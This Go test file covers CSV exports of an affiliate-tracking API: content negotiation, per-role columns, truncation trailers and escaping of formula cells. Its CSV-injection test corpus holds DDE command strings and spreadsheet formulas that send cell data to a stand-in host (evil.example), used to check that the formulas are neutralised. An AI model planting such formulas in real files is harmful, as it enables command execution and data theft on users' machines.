package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/waypost/waypost/api"
	"github.com/waypost/waypost/domain/money"
)

// file is a CSV answer.
type file struct {
	status  int
	header  http.Header
	trailer http.Header
	names   []string
	rows    []map[string]string
	raw     string
}

// csvFile asks for path as CSV over a real connection, for trailers and broken connections are not seen otherwise.
func (w *world) csvFile(token, path string, header ...string) (file, error) {
	w.Helper()
	server := httptest.NewServer(w.e)
	defer server.Close()
	r, err := http.NewRequest(http.MethodGet, server.URL+api.Base+path, nil)
	if err != nil {
		w.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+token)
	r.Header.Set("Accept", "text/csv")
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	response, err := server.Client().Do(r)
	if err != nil {
		w.Fatal(err)
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		return file{}, err
	}
	f := file{status: response.StatusCode, header: response.Header, trailer: response.Trailer, raw: string(body)}
	if !strings.HasPrefix(f.header.Get("Content-Type"), "text/csv") {
		return f, nil
	}
	return f, f.parse()
}

func (f *file) parse() error {
	records, err := csv.NewReader(strings.NewReader(f.raw)).ReadAll()
	if err != nil || len(records) == 0 {
		return fmt.Errorf("parse %q: %v", f.raw, err)
	}
	f.names = records[0]
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, name := range f.names {
			row[name] = record[i]
		}
		f.rows = append(f.rows, row)
	}
	return nil
}

// mustCSV is csvFile where nothing but a whole file is right.
func (w *world) mustCSV(token, path string, header ...string) file {
	w.Helper()
	f, err := w.csvFile(token, path, header...)
	if err != nil || f.status != 200 || f.names == nil {
		w.Fatalf("%s: %d %v %v: %s", path, f.status, f.header, err, f.raw)
	}
	return f
}

func TestListsAreFiles(t *testing.T) {
	t.Parallel()
	n := newNetwork(t)
	clicks, conversions, _, _ := traffic(n)
	f := n.mustCSV(n.admin, "/conversions?limit=1")
	if len(f.rows) != 2 || f.rows[0]["id"] != conversions[1] || f.rows[1]["id"] != conversions[0] {
		t.Errorf("rows: %v", f.rows)
	}
	if got, want := f.header.Get("Content-Disposition"), `attachment; filename="conversions-`+now().Format(time.DateOnly)+`.csv"`; got != want {
		t.Errorf("Content-Disposition %q, want %q", got, want)
	}
	if f.header.Get("Content-Type") != "text/csv; charset=utf-8" || f.header.Get("Cache-Control") != "no-store" {
		t.Errorf("header %v", f.header)
	}
	if len(f.trailer.Get("Waypost-Truncated")) != 0 || !strings.Contains(f.raw, "\r\n") {
		t.Errorf("trailer %v in %q", f.trailer, f.raw)
	}
	one := n.must(200, n.admin, "GET", "/conversions/"+conversions[1], nil)
	want := map[string]string{"hold_until": "", "params": `{"com":"12.34","payout":"56.78"}`, "test": "false"}
	for name, value := range one {
		if _, set := want[name]; !set {
			want[name] = ""
			if value != nil {
				want[name] = fmt.Sprint(value)
			}
		}
	}
	if diff := cmp.Diff(want, f.rows[0]); diff != "" {
		t.Errorf("a row is not its JSON:\n%s", diff)
	}

	// The same by a parameter, which wins over Accept; filters and tenancy as ever.
	if f := n.mustCSV(n.admin, "/conversions?format=csv&click_id="+clicks[0], "Accept", "application/json"); len(f.rows) != 1 {
		t.Errorf("filtered: %v", f.rows)
	}
	if f := n.mustCSV(n.affUser[0], "/conversions"); len(f.rows) != 1 || f.rows[0]["id"] != conversions[0] ||
		slices.Contains(f.names, "revenue") || !slices.Contains(f.names, "commission") {
		t.Errorf("an affiliate's: %s", f.raw)
	}
	if f := n.mustCSV(n.advUser[1], "/conversions"); len(f.rows) != 1 || slices.Contains(f.names, "commission") || f.rows[0]["revenue"] != "56.78" {
		t.Errorf("an advertiser's: %s", f.raw)
	}

	// Objects inside an object are columns, lists are JSON, none of it for whom it is not.
	goals := n.mustCSV(n.admin, path("/offers/%d/goals", id(n.offers[0])))
	if !slices.Contains(goals.names, "payout.model") || goals.rows[0]["revenue.model"] != "postback" || goals.rows[0]["payout.amount"] != "" ||
		slices.Contains(goals.names, "warnings") {
		t.Errorf("goals: %s", goals.raw)
	}
	if f := n.mustCSV(n.advUser[0], path("/offers/%d/goals", id(n.offers[0]))); strings.Contains(f.raw, "payout") {
		t.Errorf("an advertiser's goals: %s", f.raw)
	}
	var nested []map[string]any
	if err := json.Unmarshal([]byte(n.mustCSV(n.admin, "/offers").rows[0]["goals"]), &nested); err != nil || nested[0]["alias"] != "default" {
		t.Errorf("goals of offers: %v %v", nested, err)
	}
	if f := n.mustCSV(n.affUser[0], path("/affiliates/%d/balance", id(n.affiliates[0]))); len(f.rows) != 1 || f.rows[0]["approved"] != "12.34" ||
		!strings.HasPrefix(f.header.Get("Content-Disposition"), `attachment; filename="affiliate-balance-`) {
		t.Errorf("balance: %v %s", f.header, f.raw)
	}
	if f := n.mustCSV(n.admin, "/conversions?txid=none"); len(f.rows) != 0 || !slices.Contains(f.names, "click_id") {
		t.Errorf("empty: %s", f.raw)
	}
}

func TestWhatIsAskedForDecides(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for accept, isCSV := range map[string]bool{
		"": false, "*/*": false, "application/json": false, "text/csv": true, "text/csv;q=0.5, application/json;q=0.4": true,
		"text/csv;q=0.4,application/json": false, "text/csv, */*;q=0.1": true, "application/xml": false,
		"text/html,application/xhtml+xml,*/*;q=0.8": false, "text/csv;q=0": false,
	} {
		f, err := w.csvFile(w.admin, "/affiliates", "Accept", accept)
		if got := strings.HasPrefix(f.header.Get("Content-Type"), "text/csv"); err != nil || f.status != 200 || got != isCSV {
			t.Errorf("Accept %q: %d %s %v", accept, f.status, f.header.Get("Content-Type"), err)
		}
	}
	if f, _ := w.csvFile(w.admin, "/affiliates?format=json"); !json.Valid([]byte(f.raw)) {
		t.Errorf("format=json: %s", f.raw)
	}
	w.refused(422, "invalid_choice", w.admin, "GET", "/affiliates?format=xlsx", nil)

	// Errors, and what is no list, stay JSON.
	for path, status := range map[string]int{"/affiliates?limit=0": 422, "/affiliates?cursor=x": 422, "/affiliates/999999": 404, "/me": 200} {
		if f, _ := w.csvFile(w.admin, path); f.status != status || !json.Valid([]byte(f.raw)) || f.header.Get("Content-Disposition") != "" {
			t.Errorf("%s: %d %v %s", path, f.status, f.header, f.raw)
		}
	}
	if f, _ := w.csvFile("nobody", "/affiliates"); f.status != 401 || !json.Valid([]byte(f.raw)) {
		t.Errorf("without a log-in: %d %s", f.status, f.raw)
	}
	// A body is JSON still.
	if a := w.send(w.admin, "POST", "/affiliates", "text/csv; charset=utf-8", strings.NewReader("name\nx")); a.status != 415 {
		t.Errorf("CSV as a body: %d %s", a.status, a.raw)
	}
}

// A file of many parts has each row once, in the list's order; one that is too long says so and tells how to go on.
func TestLongFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const rows = 100_700
	err := w.exec(fmt.Sprintf(`INSERT INTO affiliates (name, email, status, currency, fire, created_at, updated_at)
		SELECT 'A' || i, '', 'active', 'USD', 'specific', now(), now() FROM generate_series(1, %d) i`, rows))
	if err != nil {
		t.Fatal(err)
	}
	f := w.mustCSV(w.admin, "/affiliates")
	if len(f.rows) != 100_000 || f.trailer.Get("Waypost-Truncated") != "true" {
		t.Fatalf("%d rows, trailer %v", len(f.rows), f.trailer)
	}
	rest := w.mustCSV(w.admin, "/affiliates?cursor="+f.trailer.Get("Waypost-Next-Cursor"))
	if len(rest.rows) != rows-100_000 || rest.trailer.Get("Waypost-Truncated") != "" {
		t.Fatalf("the rest: %d rows, trailer %v", len(rest.rows), rest.trailer)
	}
	for i, row := range append(f.rows, rest.rows...) {
		if want := fmt.Sprintf("A%d", rows-i); row["name"] != want {
			t.Fatalf("row %d is %v, want %s", i, row, want)
		}
	}
}

// Half a file must not look like a whole one.
func TestBrokenFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, sql := range []string{`INSERT INTO affiliates (name, email, status, currency, fire, created_at, updated_at)
		SELECT 'A' || i, '', 'active', 'USD', 'specific', now(), now() FROM generate_series(1, 1000) i`,
		`CREATE FUNCTION fails() RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RAISE EXCEPTION ''no more''; END'`,
		// The second part meets a fault of the database.
		`ALTER TABLE affiliates RENAME TO affiliates_kept`,
		`CREATE VIEW affiliates AS SELECT * FROM affiliates_kept WHERE id > 300 OR fails()`} {
		if err := w.exec(sql); err != nil {
			t.Fatal(err)
		}
	}
	f, err := w.csvFile(w.admin, "/affiliates")
	if err == nil {
		t.Errorf("a broken file came as a whole: %d, %d rows", f.status, len(f.rows))
	}
	if !strings.Contains(w.log.String(), "CSV file broken off") {
		t.Errorf("log: %s", w.log)
	}
}

// formulas are what spreadsheets would compute, collected from the public corpora of CSV injection.
var formulas = []string{
	"=1+1", "=1+1;", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'", `=HYPERLINK("http://evil.example?x="&A1,"click")`,
	`=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")`, `=WEBSERVICE("http://evil.example/")`, "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"='file:///etc/passwd'#$passwd.A1", "=SUM(1+1)*cmd|'/C calc'!A0", "==1+1", "=", "+1+1", "+cmd|'/C calc'!A0", "+", "++1",
	"-1+1", "-2+3+cmd|'/C calc'!A0", "-", "--1", "-1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0", "@",
	"\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=\"a,b\"", "=a\r\nb", "+49 30 1234", "=\x00x", "-1,5", "-1e5",
}

func TestFormulasAreTexts(t *testing.T) {
	t.Parallel()
	type row struct {
		Text    string  `json:"text"`
		Pointer *string `json:"pointer"`
		Any     any     `json:"any"`
		Nested  struct {
			Text string `json:"text"`
		} `json:"nested"`
	}
	if len(formulas) < 30 {
		t.Fatal("the corpus is too small")
	}
	var rows []row
	for _, f := range formulas {
		r := row{Text: f, Pointer: &f, Any: f}
		r.Nested.Text = f
		rows = append(rows, r)
	}
	text, err := api.CSV(rows)
	if err != nil {
		t.Fatal(err)
	}
	f := file{raw: text}
	if err := f.parse(); err != nil {
		t.Fatal(err)
	}
	for i, r := range f.rows {
		want := strings.ReplaceAll("'"+formulas[i], "\r\n", "\n") // as the parser reads it
		for name, got := range r {
			if got != want {
				t.Errorf("%s of %q is %q", name, formulas[i], got)
			}
		}
	}
}

// What is no formula stays as it is, numbers above all.
func TestCells(t *testing.T) {
	t.Parallel()
	type inner struct {
		Model  string      `json:"model"`
		Amount *money.Rate `json:"amount"`
	}
	type Embedded struct {
		Sub1 string `json:"sub1"`
	}
	type row struct {
		N        int64        `json:"n"`
		Negative int          `json:"negative"`
		Profit   string       `json:"profit" csv:"number"`
		Trap     string       `json:"trap" csv:"number"`
		Rate     money.Rate   `json:"rate"`
		Amount   money.Amount `json:"amount"`
		Yes      bool         `json:"yes"`
		At       time.Time    `json:"at"`
		None     *string      `json:"none"`
		Hidden   *string      `json:"hidden,omitempty"`
		Words    []string     `json:"words"`
		Object   map[string]any
		Payout   *inner `json:"payout,omitempty"`
		Revenue  *inner `json:"revenue,omitempty"`
		Secret   string `json:"-"`
		Embedded
	}
	rate := money.MustRate("-7.5")
	text, err := api.CSV([]row{{N: 7, Negative: -7, Profit: "-3.00", Trap: "-3+1", Rate: rate, Amount: money.NewAmount(-105, "USD"), Yes: true,
		At: time.Date(2026, 11, 21, 10, 0, 0, 5e8, time.UTC), Words: []string{"a", "b<c"}, Object: map[string]any{"x": -1},
		Payout: &inner{"fixed", &rate}, Secret: "s", Embedded: Embedded{`a "b", c`}}, {Embedded: Embedded{" x\ny"}}})
	want := "n,negative,profit,trap,rate,amount,yes,at,none,words,Object,payout.model,payout.amount,sub1\r\n" +
		`7,-7,-3.00,'-3+1,-7.5,-1.05,true,2026-11-21T10:00:00.5Z,,"[""a"",""b<c""]","{""x"":-1}",fixed,-7.5,"a ""b"", c"` + "\r\n" +
		"0,0,,,0,0,false,0001-01-01T00:00:00Z,,,,,,\" x\ny\"\r\n"
	if err != nil || text != want {
		t.Errorf("%v\n%s\nwant\n%s", err, text, want)
	}
}

// No text makes a cell that a spreadsheet computes, breaks the table, or is lost.
func FuzzCells(f *testing.F) {
	for _, formula := range formulas {
		f.Add(formula, "x")
		f.Add("x", formula)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if !utf8.ValidString(a + b) { // no body holds such a text
			t.Skip()
		}
		type row struct{ A, B string }
		text, err := api.CSV([]row{{a, b}})
		if err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(records) != 2 || len(records[1]) != 2 {
			t.Fatalf("%q: %v %v", text, records, err)
		}
		for i, original := range []string{a, b} {
			got, want := records[1][i], strings.ReplaceAll(original, "\r\n", "\n")
			if strings.ContainsAny(got[:min(1, len(got))], "=+-@\t\r\n") {
				t.Fatalf("%q opens as a formula", got)
			}
			if strings.TrimPrefix(got, "'") != want && got != want {
				t.Fatalf("%q came back as %q", original, got)
			}
		}
	})
}

// Whoever adds a list adds its file: every answer with items is documented as CSV too.
func TestEveryListIsDocumentedAsCSV(t *testing.T) {
	t.Parallel()
	lists := 0
	for path, item := range document.Paths {
		if item.Get == nil || item.Get.Responses["200"] == nil {
			continue
		}
		content := item.Get.Responses["200"].Content
		if content["application/json"] == nil {
			continue
		}
		schema := content["application/json"].Schema
		if schema.Ref != "" {
			schema = document.Components.Schemas.SchemaFromRef(schema.Ref)
		}
		_, isList := schema.Properties["items"]
		if isList && (strings.HasSuffix(path, "/trace") || path == "/shared-traces/{token}" || path == "/live") {
			continue // a story of one click, and a poll: neither is a table
		}
		if isList {
			lists++
		}
		if isList != (content["text/csv"] != nil) {
			t.Errorf("%s: list %t, content %v", path, isList, content)
		}
	}
	if lists < 12 {
		t.Errorf("only %d lists", lists)
	}
}
